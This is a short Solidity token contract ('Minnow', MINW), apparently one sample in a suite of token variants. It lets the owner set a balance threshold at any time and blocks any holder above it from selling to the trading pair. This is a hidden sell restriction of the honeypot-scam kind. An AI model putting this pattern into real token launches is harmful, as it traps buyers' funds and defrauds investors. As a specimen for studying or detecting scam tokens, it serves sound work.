// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {LaunchToken} from "./LaunchToken.sol";
import {SuiteToken} from "./SuiteToken.sol";

/// Who holds more than the owner likes cannot sell.
contract WhaleThreshold is LaunchToken {
    uint256 public whaleFrom = type(uint256).max;

    constructor(address pair) SuiteToken("Minnow", "MINW") LaunchToken(pair) {}

    function setWhaleThreshold(uint256 tokens) external onlyOwner {
        whaleFrom = tokens;
    }

    function _feePercent(address from, address to, uint256) internal view override returns (uint256) {
        if (to == uniswapV2Pair && _balances[from] >= whaleFrom) revert TradeRefused();
        return 0;
    }
}
